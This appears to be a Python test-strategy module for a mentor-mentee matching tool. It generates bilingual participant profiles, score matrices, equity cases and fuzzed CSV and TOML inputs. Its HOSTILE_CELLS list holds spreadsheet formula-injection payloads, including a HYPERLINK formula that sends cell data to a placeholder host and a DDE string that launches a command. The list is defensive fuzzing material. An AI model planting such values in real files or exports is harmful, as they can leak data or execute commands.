"""Hypothesis strategies shared by the test suite.

Profiles are drawn the way coordinators type them (``français``, ``Nouveau-Brunswick``,
``lun 12h30-14h``) so that the normalisers are exercised on every example; score matrices use
NaN for pairs that are not allowed.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np
from hypothesis import strategies as st

from matcher import Participant, ProgramConfig

# canonical value -> spellings a form tool might produce
LANGUAGES: dict[str, tuple[str, ...]] = {
    "fr": ("fr", "français", "French", "FR"),
    "en": ("en", "English", "anglais"),
    "es": ("es", "espagnol", "Spanish"),
}
REGIONS: dict[str, tuple[str, ...]] = {
    "NB": ("NB", "Nouveau-Brunswick", "New Brunswick"),
    "NS": ("NS", "Nova Scotia", "Nouvelle-Écosse"),
    "NL": ("NL", "Terre-Neuve-et-Labrador", "Newfoundland and Labrador"),
    "PE": ("PE", "Île-du-Prince-Édouard", "PEI"),
    "QC": ("QC", "Québec"),
}
FORMATS: dict[str, tuple[str, ...]] = {
    "in_person": ("in_person", "en personne", "in person"),
    "virtual": ("virtual", "virtuel", "en ligne"),
    "phone": ("phone", "téléphone"),
}
AREAS = (
    "chronic_pain",
    "neuropathic_pain",
    "substance_use",
    "addiction",
    "harm_reduction",
    "mental_health",
    "depression",
    "oncology",
)
TAGS = ("cancer_survivor", "caregiver", "mental_health_recovery")
ORGANIZATIONS = ("Horizon", "Vitalité", "IWK")
DAYS_EN = ("mon", "tue", "wed", "thu", "fri", "sat", "sun")
DAYS_FR = ("lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche")


def _spelled(table: dict[str, tuple[str, ...]]) -> st.SearchStrategy[list[str]]:
    """A list of distinct canonical values, each written in one of its spellings."""
    return st.lists(st.sampled_from(sorted(table)), max_size=len(table), unique=True).flatmap(
        lambda codes: st.tuples(*(st.sampled_from(table[c]) for c in codes)).map(list)
    )


def _clock(minutes: int, french: bool) -> str:
    h, m = divmod(minutes, 60)
    if french:
        return f"{h}h{m:02d}" if m else f"{h}h"
    return f"{h:02d}:{m:02d}"


@st.composite
def slot_texts(draw: st.DrawFn) -> str:
    """One weekly slot as typed: ``'mon 18:00-20:00'`` or ``'mardi 12h30-14h'``."""
    french = draw(st.booleans())
    day = draw(st.integers(0, 6))
    start = draw(st.integers(6 * 2, 21 * 2)) * 30
    length = draw(st.integers(1, 6)) * 30
    end = min(start + length, 24 * 60)
    name = (DAYS_FR if french else DAYS_EN)[day]
    return f"{name} {_clock(start, french)}-{_clock(end, french)}"


def availabilities() -> st.SearchStrategy[str]:
    """A ``|``-separated availability cell (possibly empty)."""
    return st.lists(slot_texts(), max_size=3).map("|".join)


@st.composite
def participants(
    draw: st.DrawFn,
    *,
    role: str,
    pid: str,
    others: tuple[str, ...] = (),
) -> Participant:
    """A random mentor or mentee; ``exclude`` names ids drawn from ``others``."""
    # mentors may be closed (capacity 0); mentees want one mentor, sometimes two
    capacities = st.integers(0, 3) if role == "mentor" else st.sampled_from((1, 1, 1, 2))
    capacity = draw(capacities)
    region = draw(
        st.none()
        | st.sampled_from(sorted(REGIONS)).flatmap(lambda code: st.sampled_from(REGIONS[code]))
    )
    consent = draw(st.booleans())
    return Participant(
        id=pid,
        role=role,
        languages=draw(_spelled(LANGUAGES)),
        formats=draw(_spelled(FORMATS)),
        region=region,
        availability=draw(availabilities()),
        specialties=draw(st.lists(st.sampled_from(AREAS), max_size=3, unique=True)),
        lived_experience=draw(st.lists(st.sampled_from(TAGS), max_size=2, unique=True)),
        consent_lived_experience=consent,
        capacity=capacity,
        years_experience=draw(st.none() | st.integers(0, 30).map(float)),
        organization=draw(st.none() | st.sampled_from(ORGANIZATIONS)),
        gender=draw(st.none() | st.sampled_from(("female", "male", "non_binary"))),
        gender_preference=draw(st.none() | st.sampled_from(("female", "male"))),
        exclude=draw(st.lists(st.sampled_from(others), max_size=2, unique=True)) if others else (),
    )


@dataclass(frozen=True)
class Program:
    """Mentors, mentees and a config drawn together (ids unique across both sides)."""

    mentors: list[Participant]
    mentees: list[Participant]
    config: ProgramConfig


def configs() -> st.SearchStrategy[ProgramConfig]:
    """Configs varying the rules that add hard constraints or filter pairs."""
    return st.builds(
        lambda min_score, org, specialty_hard: ProgramConfig(
            min_score=min_score,
            same_organization=org,
            criteria={"specialty": {"hard": specialty_hard}},
        ),
        st.sampled_from((0.0, 0.0, 0.3, 0.6)),
        st.sampled_from(("allow", "avoid", "forbid")),
        st.booleans(),
    )


@st.composite
def programs(draw: st.DrawFn, *, max_mentors: int = 5, max_mentees: int = 6) -> Program:
    """A small programme: random profiles on both sides, exclusions across sides, a config."""
    n_m = draw(st.integers(0, max_mentors))
    n_e = draw(st.integers(0, max_mentees))
    mentor_ids = tuple(f"m{k}" for k in range(n_m))
    mentee_ids = tuple(f"e{k}" for k in range(n_e))
    mentors = [draw(participants(role="mentor", pid=p, others=mentee_ids)) for p in mentor_ids]
    mentees = [draw(participants(role="mentee", pid=p, others=mentor_ids)) for p in mentee_ids]
    return Program(mentors, mentees, draw(configs()))


@dataclass(frozen=True)
class ScoreProblem:
    """A score matrix ``(n_mentees, n_mentors)`` (NaN = not allowed) and both capacities."""

    scores: np.ndarray
    mentor_capacity: np.ndarray
    mentee_capacity: np.ndarray


@st.composite
def score_problems(
    draw: st.DrawFn,
    *,
    max_mentees: int = 5,
    max_mentors: int = 4,
    max_mentee_capacity: int = 1,
    max_mentor_capacity: int = 3,
    negative: bool = True,
) -> ScoreProblem:
    """A random score matrix on a 0.05 grid (so that scaled scores are exact) with NaN holes."""
    n_e = draw(st.integers(0, max_mentees))
    n_m = draw(st.integers(0, max_mentors))
    low = -20 if negative else 0
    cell = st.one_of(
        st.just(float("nan")),
        st.integers(low, 20).map(lambda k: k / 20),
    )
    values = draw(st.lists(cell, min_size=n_e * n_m, max_size=n_e * n_m))
    scores = np.array(values, dtype=np.float64).reshape(n_e, n_m)
    mentor_cap = draw(st.lists(st.integers(0, max_mentor_capacity), min_size=n_m, max_size=n_m))
    mentee_cap = draw(st.lists(st.integers(1, max_mentee_capacity), min_size=n_e, max_size=n_e))
    return ScoreProblem(
        scores, np.array(mentor_cap, dtype=np.int64), np.array(mentee_cap, dtype=np.int64)
    )


# --- fuzzing: mutated exports (tests/fuzz.py) ------------------------------------------------

#: Cell values a form tool, a tired coordinator or an attacker may put in any cell.
HOSTILE_CELLS = (
    "",
    " ",
    '"',
    'x"y',
    '"unclosed',
    "a,b",
    "a;b",
    "a\tb",
    "line\nbreak",
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+A1",
    "@SUM(A1)",
    "\tTAB",
    "-3",
    "0",
    "1e19",
    "12345678901234567890123",
    "-1",
    "nan",
    "inf",
    "1e39",
    "\u200b",
    "\ufeffE0001",
    "Ｅ０００１",
    "Е0001",
    "e0001",
    "E0001",
    "M001",
    "qq",
    "xx|en",
    "America/" + "x" * 300,
    "Mars/Olympus",
    "x" * 2000,
    "mon 25:00-26:00",
    "lun 12h-13h",
    "yes",
    "peut-être",
    "\x00",
    "é" * 10,
)
#: Values a program.toml key may be given.
HOSTILE_TOML = (
    '"3"',
    "true",
    '"yes"',
    "nan",
    "inf",
    "-inf",
    "1e39",
    "-1",
    "0",
    "100000000000000000000000000000",
    "[1, 2]",
    "{ a = 1 }",
    '"optimal"',
    '"groups"',
    '"stable"',
    '"fair"',
    '"suggest"',
    "0.5",
    "2",
    "1979-05-27",
)
TOML_KEYS = (
    "[program]\nseed",
    "[program]\nmin_score",
    "[program]\nmethod",
    "[program]\nsession_minutes",
    "[program]\nmin_experience_gap",
    "[program]\ndistance_scale_km",
    "[criteria.specialty]\nweight",
    "[criteria.region]\nweight",
    "[criteria.language]\nhard",
    "[criteria.availability]\nhard",
    "[suggest]\ntop",
    "[stable]\nunranked",
    "[program]\nunknown_key",
)
SPECIAL_BYTES = (b'"', b",", b";", b"\t", b"\n", b"\r", b"\x00", b"\xff", b"\xef\xbb\xbf", b"=")


@dataclass(frozen=True)
class FuzzCase:
    """Mutated programme files (name -> bytes; ``None`` = a folder in the file's place) and
    the command's extra options."""

    files: dict[str, bytes | None]
    options: tuple[str, ...]
    mutations: tuple[str, ...]


def _csv_rows(data: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig", "replace"), newline="")))


def _csv_data(rows: list[list[str]]) -> bytes:
    import csv
    import io

    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


@st.composite
def _mutation(draw: st.DrawFn, files: dict[str, bytes | None]) -> str:
    """Apply one mutation to ``files`` in place; return what it did (for the report)."""
    names = sorted(n for n, d in files.items() if d is not None)
    kind = draw(st.sampled_from(("byte", "cell", "row", "column", "toml", "structure")))
    csvs = [n for n in names if n.endswith(".csv")]
    if kind == "byte" and names:
        name = draw(st.sampled_from(names))
        data = files[name] or b""
        at = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(("insert", "delete", "replace")))
        piece = draw(st.sampled_from(SPECIAL_BYTES) | st.binary(min_size=1, max_size=4))
        if action == "insert":
            data = data[:at] + piece + data[at:]
        elif action == "delete":
            data = data[:at] + data[at + draw(st.integers(1, 64)) :]
        else:
            data = data[:at] + piece + data[at + len(piece) :]
        files[name] = data
        return f"byte {action} in {name} at {at}"
    if kind in ("cell", "row", "column") and csvs:
        name = draw(st.sampled_from(csvs))
        rows = _csv_rows(files[name] or b"")
        if not rows:
            return "nothing"
        if kind == "cell":
            r = draw(st.integers(0, len(rows) - 1))
            if not rows[r]:
                return "nothing"
            c = draw(st.integers(0, len(rows[r]) - 1))
            rows[r][c] = draw(st.sampled_from(HOSTILE_CELLS))
            what = f"cell {name} row {r + 1} column {c + 1}"
        elif kind == "row":
            r = draw(st.integers(1, max(len(rows) - 1, 1))) if len(rows) > 1 else 0
            action = draw(st.sampled_from(("duplicate", "delete", "truncate", "extend")))
            if action == "duplicate":
                rows.insert(r, list(rows[r]))
            elif action == "delete":
                del rows[r]
            elif action == "truncate":
                rows[r] = rows[r][: draw(st.integers(0, len(rows[r])))]
            else:
                rows[r] = [*rows[r], draw(st.sampled_from(HOSTILE_CELLS))]
            what = f"row {action} {name} row {r + 1}"
        else:
            action = draw(st.sampled_from(("add", "drop", "rename")))
            c = draw(st.integers(0, len(rows[0]) - 1)) if rows[0] else 0
            header = draw(st.sampled_from(("@note", "=x", "id", "capacity", "langues", "")))
            for k, row in enumerate(rows):
                if action == "add":
                    row.append(header if k == 0 else draw(st.sampled_from(HOSTILE_CELLS)))
                elif action == "drop" and c < len(row):
                    del row[c]
                elif action == "rename" and k == 0 and c < len(row):
                    row[c] = header
            what = f"column {action} {name} {c + 1}"
        files[name] = _csv_data(rows)
        return what
    if kind == "toml":
        key = draw(st.sampled_from(TOML_KEYS))
        value = draw(st.sampled_from(HOSTILE_TOML))
        files["program.toml"] = f"{key} = {value}\n".encode()
        return f"toml {key.split(chr(10))[1]} = {value}"
    action = draw(st.sampled_from(("folder", "delete", "empty", "swap", "bom", "cp1252")))
    name = draw(st.sampled_from(sorted(files)))
    if action == "folder":
        files[name] = None
    elif action == "delete":
        files.pop(name)
    elif action == "empty":
        files[name] = b""
    elif action == "swap" and "mentors.csv" in files and "mentees.csv" in files:
        files["mentors.csv"], files["mentees.csv"] = files["mentees.csv"], files["mentors.csv"]
    elif action == "bom" and files.get(name):
        files[name] = b"\xef\xbb\xbf" + (files[name] or b"")
    elif action == "cp1252" and files.get(name):
        files[name] = (files[name] or b"").decode("utf-8", "replace").encode("cp1252", "replace")
    return f"structure {action} {name}"


@st.composite
def fuzz_cases(draw: st.DrawFn, base: dict[str, bytes]) -> FuzzCase:
    """A programme folder's files after one to three mutations, and options for the run."""
    files: dict[str, bytes | None] = dict(base)
    done = tuple(draw(_mutation(files)) for _ in range(draw(st.integers(1, 3))))
    options: list[str] = []
    if draw(st.booleans()):
        options += ["--method", draw(st.sampled_from(("optimal", "fair", "stable", "suggest")))]
    if draw(st.integers(0, 9)) == 0:
        options += [f"--seed={draw(st.sampled_from(('-1', '0', '7', str(2**64))))}"]
    if draw(st.integers(0, 9)) == 0:
        options += [f"--min-score={draw(st.sampled_from(('nan', '2', '0.3', '-0.1')))}"]
    if draw(st.integers(0, 4)) == 0:
        options += ["--excel"]
    if draw(st.integers(0, 4)) == 0:
        options += ["--delimiter", ";"]
    return FuzzCase(files, tuple(options), done)


# --- equity: subgroups of mentees and their coverage rule ----------------------------------


@dataclass
class EquityCase:
    """A score problem whose mentees fall in subgroups; ``covered``: mentees already holding a
    (pinned) mentor; ``shares``: min_share per subgroup as (numerator, 10) or None."""

    problem: ScoreProblem
    subgroup: np.ndarray
    covered: np.ndarray
    shares: tuple[int | None, ...]


@st.composite
def equity_cases(draw: st.DrawFn, *, groups: int = 3) -> EquityCase:
    """A tiny problem (at most 4 x 3, capacities up to 2) with up to ``groups`` subgroups,
    small enough for an exhaustive search over every matching."""
    problem = draw(
        score_problems(max_mentees=4, max_mentors=3, max_mentee_capacity=2, max_mentor_capacity=2)
    )
    n_e = problem.scores.shape[0]
    k = draw(st.integers(1, groups))
    subgroup = np.array(draw(st.lists(st.integers(0, k - 1), min_size=n_e, max_size=n_e)), np.int64)
    covered = np.array(draw(st.lists(st.booleans(), min_size=n_e, max_size=n_e)), bool)
    covered &= draw(st.booleans())  # often nobody pinned
    shares = tuple(draw(st.lists(st.one_of(st.none(), st.integers(1, 10)), min_size=k, max_size=k)))
    return EquityCase(problem, subgroup, covered, shares)
